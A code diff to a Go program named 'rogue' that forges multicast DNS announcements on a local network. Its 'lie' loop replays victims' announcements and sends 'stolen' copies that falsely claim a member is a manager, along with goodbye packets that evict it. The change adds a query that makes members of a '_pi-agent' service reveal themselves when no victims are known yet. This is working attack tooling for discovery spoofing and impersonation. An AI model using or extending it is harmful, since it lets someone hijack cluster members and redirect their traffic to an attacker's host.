@@ -17,6 +17,9 @@ import (
 func (r *rogue) lie(group *ipv4.PacketConn, pause time.Duration, crowd int) {
 	for range time.Tick(pause) {
 		packets := [][]byte{r.announcement(serial, "pi", "", "")}
+		if len(r.victims()) == 0 {
+			packets = append(packets, question())
+		}
 		for _, v := range r.victims() {
 			packets = append(packets, v.packet, stolen(v.packet, 120), stolen(v.packet, 0))
 			packets = append(packets, r.announcement(serial, v.cluster, v.tag, v.mac))
@@ -50,6 +53,11 @@ func (r *rogue) announcement(serial, cluster, tag, mac string) []byte {
 		&dns.TXT{Hdr: head(instance, dns.TypeTXT), Txt: txt},
 		&dns.A{Hdr: head(host+".local.", dns.TypeA), A: net.IP(r.addr.AsSlice())},
 	}})
+}
+
+// question makes the members announce themselves.
+func question() []byte {
+	return pack(new(dns.Msg).SetQuestion("_pi-agent._tcp.local.", dns.TypePTR))
 }
 
 // stolen is a member's announcement that says that it is a manager, for this lifetime; 0 makes a goodbye of it.
